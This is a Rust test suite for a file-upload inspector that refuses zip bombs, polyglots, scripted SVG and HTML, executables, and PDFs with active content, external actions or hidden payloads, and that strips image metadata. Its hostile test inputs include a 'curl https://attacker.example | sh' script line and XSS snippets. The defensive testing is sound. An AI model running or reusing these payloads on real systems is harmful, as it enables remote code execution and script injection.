//! One test per rule and per attack, each through the public `inspect`.

use super::*;
use crate::samples;
use proptest::prelude::*;
use std::time::{Duration, Instant};

const MB: u64 = 1024 * 1024;

fn any_document() -> Rule {
    Rule { allowed: FileKind::ALL.to_vec(), max_bytes: 10 * MB }
}

fn pdf_only() -> Rule {
    Rule { allowed: vec![FileKind::Pdf], max_bytes: 2 * MB }
}

fn images_only() -> Rule {
    Rule { allowed: vec![FileKind::Jpeg, FileKind::Png], max_bytes: 2 * MB }
}

/// The rejection's code, failing the test if the upload was accepted.
fn refused(bytes: Vec<u8>, rule: &Rule) -> &'static str {
    match inspect(bytes, rule) {
        Ok(accepted) => panic!("accepted a {:?} upload of {} bytes", accepted.kind, accepted.bytes.len()),
        Err(rejection) => rejection.code(),
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    find(haystack, needle).is_some()
}

#[test]
fn refuses_an_oversized_file_with_its_size() {
    let bytes = samples::pdf(1, 6_500_000);
    let rejection = inspect(bytes, &pdf_only()).unwrap_err();
    assert_eq!(rejection.code(), "upload.too_large");
    assert_eq!(rejection.args()[0], ("size", "6.2 MB".to_owned()));
    assert_eq!(rejection.args()[1], ("limit", "2 MB".to_owned()));
}

#[test]
fn refuses_an_empty_file() {
    assert_eq!(refused(Vec::new(), &any_document()), "upload.empty");
}

#[test]
fn refuses_a_word_document_renamed_pdf() {
    assert_eq!(refused(samples::word_docx_renamed(), &pdf_only()), "upload.word_document");
}

#[test]
fn refuses_a_zip_bomb_without_inflating_it() {
    let bomb = samples::zip_bomb();
    assert!(bomb.len() < 100 * 1024, "the bomb is small on the wire: {} bytes", bomb.len());
    let started = Instant::now();
    assert_eq!(refused(bomb, &any_document()), "upload.archive");
    assert!(started.elapsed() < Duration::from_millis(500), "took {:?}", started.elapsed());
}

#[test]
fn refuses_a_jpeg_that_is_also_a_pdf() {
    assert_eq!(refused(samples::pdf_jpeg_polyglot(), &any_document()), "upload.polyglot");
}

#[test]
fn refuses_a_pdf_appended_after_an_image() {
    let mut bytes = samples::jpeg(32, 32);
    bytes.extend(samples::pdf(1, 0));
    assert_eq!(refused(bytes, &images_only()), "upload.polyglot");
}

#[test]
fn refuses_an_image_carrying_a_web_page() {
    let mut bytes = samples::png(16, 16);
    bytes.extend(b"<HTML><body onload=alert(1)>");
    assert_eq!(refused(bytes, &images_only()), "upload.polyglot");
}

#[test]
fn refuses_svg_with_script() {
    assert_eq!(refused(samples::svg_with_script(), &any_document()), "upload.svg");
}

#[test]
fn refuses_html() {
    assert_eq!(refused(samples::html_page(), &any_document()), "upload.html");
}

#[test]
fn refuses_a_program() {
    assert_eq!(refused(samples::exe(), &any_document()), "upload.executable");
}

#[test]
fn refuses_a_pixel_flood_from_the_header() {
    let bytes = samples::pixel_flood_png();
    assert!(bytes.len() < 1024);
    let started = Instant::now();
    let rejection = inspect(bytes, &images_only()).unwrap_err();
    assert_eq!(rejection, Rejection::ImageTooBig { width: 100_000, height: 100_000 });
    assert_eq!(rejection.code(), "upload.image_too_big");
    // Decoding would allocate 30 GB and take minutes; refusing from the header takes nothing.
    assert!(started.elapsed() < Duration::from_millis(100), "took {:?}", started.elapsed());
}

#[test]
fn refuses_more_than_forty_megapixels_even_within_the_side_limit() {
    let mut bytes = samples::jpeg(16, 16);
    // Rewrite the frame header to claim 8,000 × 8,000 (64 megapixels).
    let sof = bytes.windows(2).position(|w| w == [0xFF, 0xC0]).unwrap();
    bytes[sof + 5..sof + 9].copy_from_slice(&[0x1F, 0x40, 0x1F, 0x40]);
    assert_eq!(inspect(bytes, &images_only()).unwrap_err(), Rejection::ImageTooBig { width: 8_000, height: 8_000 });
}

#[test]
fn refuses_javascript_in_a_pdf() {
    assert_eq!(refused(samples::pdf_with_javascript(), &pdf_only()), "upload.pdf_active_content");
}

#[test]
fn refuses_javascript_hidden_in_a_compressed_object_stream() {
    let bytes = samples::pdf_with_javascript_in_object_stream();
    assert!(!contains(&bytes, b"JavaScript"), "the script must be out of sight of a byte scan");
    assert_eq!(refused(bytes, &pdf_only()), "upload.pdf_active_content");
}

#[test]
fn refuses_an_attachment_in_a_pdf() {
    assert_eq!(refused(samples::pdf_with_attachment(), &pdf_only()), "upload.pdf_active_content");
}

#[test]
fn refuses_a_launch_action_the_parser_could_not_read() {
    assert_eq!(refused(samples::pdf_with_hidden_launch(), &pdf_only()), "upload.pdf_active_content");
}

#[test]
fn refuses_an_encrypted_pdf() {
    let bytes = samples::encrypted_pdf();
    assert!(contains(&bytes, b"/Encrypt"), "the sample really is encrypted");
    assert_eq!(refused(bytes, &pdf_only()), "upload.pdf_encrypted");
}

#[test]
fn refuses_a_pdf_locked_by_an_owner_password() {
    assert_eq!(refused(samples::owner_locked_pdf(), &pdf_only()), "upload.pdf_encrypted");
}

#[test]
fn refuses_a_truncated_pdf() {
    assert_eq!(refused(samples::truncated_pdf(), &pdf_only()), "upload.corrupt_pdf");
}

#[test]
fn refuses_a_pdf_header_with_nothing_behind_it() {
    assert_eq!(refused(b"%PDF-1.7\n%%EOF\n".to_vec(), &pdf_only()), "upload.corrupt_pdf");
}

#[test]
fn refuses_garbage_after_a_jpeg_start() {
    assert_eq!(refused(samples::garbage_jpeg(), &images_only()), "upload.corrupt_image");
}

#[test]
fn refuses_a_png_for_a_pdf_only_document() {
    let rejection = inspect(samples::png(8, 8), &pdf_only()).unwrap_err();
    assert_eq!(rejection.code(), "upload.not_allowed");
    assert_eq!(rejection.args(), vec![("kind", "PNG".to_owned()), ("allowed", "PDF".to_owned())]);
}

#[test]
fn keeps_a_valid_pdf_byte_identical() {
    let original = samples::pdf(3, 0);
    let accepted = inspect(original.clone(), &pdf_only()).unwrap();
    assert_eq!(accepted.kind, FileKind::Pdf);
    assert_eq!(accepted.bytes, original);
    assert_eq!(accepted.pages, Some(3));
    assert_eq!(accepted.width_height, None);
    assert_eq!(accepted.sha256.len(), 64);
    assert!(accepted.sha256.chars().all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase()));
    assert_eq!(accepted.sha256, sha256_hex(&original));
}

#[test]
fn sha256_is_the_standard_digest() {
    assert_eq!(sha256_hex(b"abc"), "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
}

#[test]
fn accepts_a_pdf_with_object_and_cross_reference_streams() {
    let original = samples::pdf_compact(2);
    assert!(contains(&original, b"/ObjStm"));
    let accepted = inspect(original.clone(), &pdf_only()).unwrap();
    assert_eq!(accepted.bytes, original);
    assert_eq!(accepted.pages, Some(2));
}

#[test]
fn accepts_a_megabyte_pdf() {
    let original = samples::pdf(2, 1_000_000);
    assert!(original.len() > 1_000_000);
    let accepted = inspect(original, &pdf_only()).unwrap();
    assert_eq!(accepted.pages, Some(2));
}

#[test]
fn accepts_a_pdf_with_a_page_bomb_inflating_only_its_start() {
    // One gigabyte of zeros behind a one-megabyte page stream: the search for hidden files
    // inflates the first 16 MiB and stops.
    let bytes = samples::pdf_with_content_bomb(1024);
    assert!(bytes.len() < 2 * MB as usize, "{} bytes", bytes.len());
    let started = Instant::now();
    let accepted = inspect(bytes, &pdf_only()).unwrap();
    assert_eq!(accepted.pages, Some(1));
    assert!(started.elapsed() < Duration::from_secs(3), "took {:?}", started.elapsed());
}

#[test]
fn refuses_many_stream_bombs_once_the_total_is_spent() {
    // Two deflated streams of 786 kB and 200 kB against a total of 500 kB.
    let bytes = samples::pdf_with_compressed_font_and_image();
    let limits = crate::pdf_check::ScanLimits { per_stream: 1024 * 1024, total: 500_000 };
    assert!(matches!(crate::pdf_check::check_with(&bytes, limits), Err(Rejection::Corrupt { kind: FileKind::Pdf })));
    let enough = crate::pdf_check::ScanLimits { per_stream: 1024 * 1024, total: 2_000_000 };
    assert!(crate::pdf_check::check_with(&bytes, enough).is_ok());
}

#[test]
fn refuses_an_object_stream_bomb_within_bounded_memory() {
    let bytes = samples::pdf_with_object_stream_bomb(64);
    let started = Instant::now();
    // The loader stops at 16 MiB of the 64 MiB it would inflate to.
    assert_eq!(refused(bytes, &pdf_only()), "upload.corrupt_pdf");
    assert!(started.elapsed() < Duration::from_secs(5), "took {:?}", started.elapsed());
}

#[test]
fn an_object_stream_under_the_loader_limit_loads() {
    // The same file as the bomb but smaller, so the bomb is refused for its size alone.
    assert!(inspect(samples::pdf_with_object_stream_bomb(8), &pdf_only()).is_ok());
}

#[test]
fn re_encodes_a_jpeg_without_its_exif() {
    let original = samples::jpeg(120, 80);
    assert!(contains(&original, samples::EXIF_SECRET.as_bytes()), "the sample carries the secret");
    let accepted = inspect(original.clone(), &images_only()).unwrap();
    assert_eq!(accepted.kind, FileKind::Jpeg);
    assert_ne!(accepted.bytes, original);
    assert!(!contains(&accepted.bytes, samples::EXIF_SECRET.as_bytes()), "EXIF survived re-encoding");
    assert!(!contains(&accepted.bytes, b"Exif\0\0"), "an EXIF block survived re-encoding");
    assert_eq!(accepted.width_height, Some((120, 80)));
    assert_eq!(sniff(&accepted.bytes), crate::Detected::Jpeg);
    let decoded = image::load_from_memory(&accepted.bytes).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (120, 80));
    assert_eq!(accepted.sha256, sha256_hex(&accepted.bytes));
}

#[test]
fn applies_the_exif_orientation_before_dropping_it() {
    // Stored 40 × 20 with "rotate 90° clockwise": displays, and is now stored, as 20 × 40.
    let accepted = inspect(samples::jpeg_oriented(40, 20, 6), &images_only()).unwrap();
    assert_eq!(accepted.width_height, Some((20, 40)));
    let decoded = image::load_from_memory(&accepted.bytes).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (20, 40));
}

#[test]
fn re_encodes_a_png_without_its_text_chunks() {
    let original = samples::png(50, 30);
    assert!(contains(&original, samples::PNG_SECRET.as_bytes()));
    let accepted = inspect(original, &images_only()).unwrap();
    assert_eq!(accepted.kind, FileKind::Png);
    assert!(!contains(&accepted.bytes, samples::PNG_SECRET.as_bytes()), "tEXt survived re-encoding");
    let decoded = image::load_from_memory(&accepted.bytes).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (50, 30));
    assert_eq!(accepted.width_height, Some((50, 30)));
}

#[test]
fn accepts_an_image_whose_re_encoding_grows_past_the_limit() {
    let original = samples::jpeg(64, 64);
    let rule = Rule { allowed: vec![FileKind::Jpeg], max_bytes: original.len() as u64 };
    assert!(inspect(original, &rule).is_ok());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn never_panics_on_arbitrary_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..4096)) {
        let _ = inspect(bytes, &any_document());
    }

    #[test]
    fn never_panics_on_damaged_valid_files(
        which in 0usize..3,
        damage in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
    ) {
        let mut bytes = match which {
            0 => samples::pdf(1, 0),
            1 => samples::jpeg(16, 16),
            _ => samples::png(16, 16),
        };
        for (index, value) in damage {
            let at = index.index(bytes.len());
            bytes[at] = value;
        }
        let _ = inspect(bytes, &any_document());
    }
}

/// The hidden format found in a refused PDF, failing the test if it was accepted or refused
/// for another reason.
fn hidden(bytes: Vec<u8>) -> crate::Detected {
    match inspect(bytes, &any_document()) {
        Err(Rejection::PdfHiddenFile { hidden }) => hidden,
        other => panic!("expected a hidden file, got {other:?}"),
    }
}

#[test]
fn refuses_a_pdf_with_a_zipped_virus_appended() {
    let bytes = samples::pdf_with_appended_zip();
    // What made it slip through: it still ends with `%%EOF` within the last kilobyte, and
    // the ZIP is whole, so unzip and 7-Zip open it.
    let eof = bytes.windows(5).rposition(|w| w == b"%%EOF").unwrap();
    assert!(bytes.len() - eof < 1024);
    assert!(bytes.ends_with(&samples::zipped_eicar()));
    assert_eq!(sniff(&samples::zipped_eicar()), crate::Detected::Zip);
    assert_eq!(refused(bytes, &pdf_only()), "upload.pdf_hidden_file");
}

#[test]
fn refuses_a_pdf_with_a_web_page_or_program_appended() {
    assert_eq!(hidden(samples::pdf_with_appended(b"\n<script>alert(document.domain)</script>\n")), crate::Detected::Html);
    assert_eq!(hidden(samples::pdf_with_appended(&samples::exe())), crate::Detected::Executable);
}

#[test]
fn refuses_a_pdf_with_a_web_page_before_its_first_object() {
    let bytes = samples::pdf_with_html_after_header();
    assert!(bytes.starts_with(b"%PDF-"), "a PDF to the sniffer");
    assert_eq!(refused(bytes.clone(), &pdf_only()), "upload.pdf_hidden_file");
    assert_eq!(hidden(bytes), crate::Detected::Html);
    assert_eq!(hidden(samples::pdf_with_program_after_header()), crate::Detected::Executable);
}

#[test]
fn refuses_another_format_before_the_pdf_header() {
    // PDF readers find `%PDF-` anywhere in the first kilobyte; to us the file is what it
    // starts as, and that is refused already.
    let mut html_first = samples::html_page();
    html_first.extend(samples::pdf(1, 0));
    assert_eq!(refused(html_first, &pdf_only()), "upload.html");
    let mut zip_first = samples::zipped_eicar();
    zip_first.extend(samples::pdf(1, 0));
    assert_eq!(refused(zip_first, &pdf_only()), "upload.archive");
    let mut program_first = samples::exe();
    program_first.extend(samples::pdf(1, 0));
    assert_eq!(refused(program_first, &pdf_only()), "upload.executable");
}

#[test]
fn refuses_a_zip_web_page_or_program_deflated_in_a_stream() {
    let zip = samples::pdf_with_payload_in_stream(&samples::zipped_eicar());
    assert!(!contains(&zip, b"PK\x03\x04") && !contains(&zip, b"EICAR"), "out of sight of a byte scan");
    assert_eq!(hidden(zip), crate::Detected::Zip);
    let page = samples::pdf_with_payload_in_stream(&samples::html_page());
    assert!(!contains(&page, b"<html"));
    assert_eq!(hidden(page), crate::Detected::Html);
    assert_eq!(hidden(samples::pdf_with_payload_in_stream(&samples::exe())), crate::Detected::Executable);
    assert_eq!(
        hidden(samples::pdf_with_payload_in_stream(b"#!/bin/sh\ncurl https://attacker.example | sh\n")),
        crate::Detected::Executable
    );
}

#[test]
fn refuses_a_payload_in_a_raw_stream_or_a_hex_string() {
    assert_eq!(hidden(samples::pdf_with_payload_in_raw_stream(&samples::zipped_eicar())), crate::Detected::Zip);
    let string = samples::pdf_with_payload_in_string(&samples::exe());
    assert!(!contains(&string, b"PE\0\0"), "hex-encoded in the file");
    assert_eq!(hidden(string), crate::Detected::Executable);
}

#[test]
fn refuses_a_zip_inside_an_object_stream() {
    let bytes = samples::pdf_compact_with_payload(&samples::zipped_eicar());
    assert!(contains(&bytes, b"/ObjStm") && !contains(&bytes, b"PK\x03\x04"));
    assert_eq!(hidden(bytes), crate::Detected::Zip);
}

#[test]
fn refuses_actions_that_leave_the_document() {
    for (name, bytes) in [
        ("SubmitForm", samples::pdf_with_submit_form()),
        ("GoToR", samples::pdf_with_remote_go_to()),
        ("URI", samples::pdf_with_uri_link()),
        ("URI after GoTo on open", samples::pdf_with_chained_uri_on_open()),
        ("SubmitForm when the page closes", samples::pdf_with_page_close_submit()),
        ("Hide", samples::pdf_with_link_action(lopdf::dictionary! { "S" => "Hide", "T" => lopdf::Object::string_literal("field") })),
        ("Named Print", samples::pdf_with_link_action(lopdf::dictionary! { "S" => "Named", "N" => "Print" })),
        ("an unknown action", samples::pdf_with_link_action(lopdf::dictionary! { "S" => "OpenTheDoor" })),
    ] {
        let code = match inspect(bytes, &pdf_only()) {
            Ok(_) => panic!("{name}: accepted"),
            Err(rejection) => rejection.code(),
        };
        assert_eq!(code, "upload.pdf_external_action", "{name}");
    }
}

#[test]
fn refuses_a_launch_link_as_active_content() {
    assert_eq!(refused(samples::pdf_with_launch_link(), &pdf_only()), "upload.pdf_active_content");
}

#[test]
fn accepts_a_pdf_that_links_within_itself() {
    let bytes = samples::pdf_with_internal_links();
    for marker in [b"/GoTo".as_slice(), b"/Named", b"/Outlines", b"/OpenAction", b"/Dest"] {
        assert!(contains(&bytes, marker), "the sample has {}", String::from_utf8_lossy(marker));
    }
    let accepted = inspect(bytes, &pdf_only()).unwrap();
    assert_eq!(accepted.pages, Some(3));
}

#[test]
fn accepts_a_pdf_with_compressed_fonts_and_images() {
    let bytes = samples::pdf_with_compressed_font_and_image();
    assert!(bytes.len() > 900_000, "{} bytes of noise-like streams", bytes.len());
    let accepted = inspect(bytes, &pdf_only()).unwrap();
    assert_eq!(accepted.pages, Some(1));
}

#[test]
fn accepts_every_ordinary_sample_pdf() {
    for (name, bytes) in [
        ("plain", samples::pdf(3, 0)),
        ("padded", samples::pdf(2, 500_000)),
        ("compact", samples::pdf_compact(2)),
        ("internal links", samples::pdf_with_internal_links()),
        ("fonts and images", samples::pdf_with_compressed_font_and_image()),
    ] {
        assert!(inspect(bytes, &pdf_only()).is_ok(), "{name}");
    }
}
